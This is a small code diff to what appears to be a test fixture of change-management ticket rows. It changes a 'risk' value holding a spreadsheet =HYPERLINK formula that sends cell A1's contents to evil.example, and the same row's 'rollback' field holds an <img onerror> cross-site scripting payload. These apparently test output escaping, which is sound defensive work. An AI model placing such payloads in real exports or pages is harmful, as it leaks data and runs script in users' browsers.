@@ -68,7 +68,7 @@ def _rows(estate: Estate) -> list[dict[str, str]]:
         {
             "ticket": "CHG-2196", "job": "notifications-mail", "requester": _CAMILLE, "implementer": "Li Wei 李伟",
             **planned(19, "12:00", "14:00"), **approved("Petra Okafor", 20, "17:02"), "emergency": "no",
-            "risk": "=HYPERLINK(\"https://evil.example/?\"&A1;\"the risk\")", "rollback": "<img src=x onerror=alert(1)>",
+            "risk": '=HYPERLINK("https://evil.example/?"&A1;"see")', "rollback": "<img src=x onerror=alert(1)>",
         },
         {
             "ticket": "CHG-2206", "resource": "kv-norvane-prod", "requester": _INES, "implementer": _PETRA,
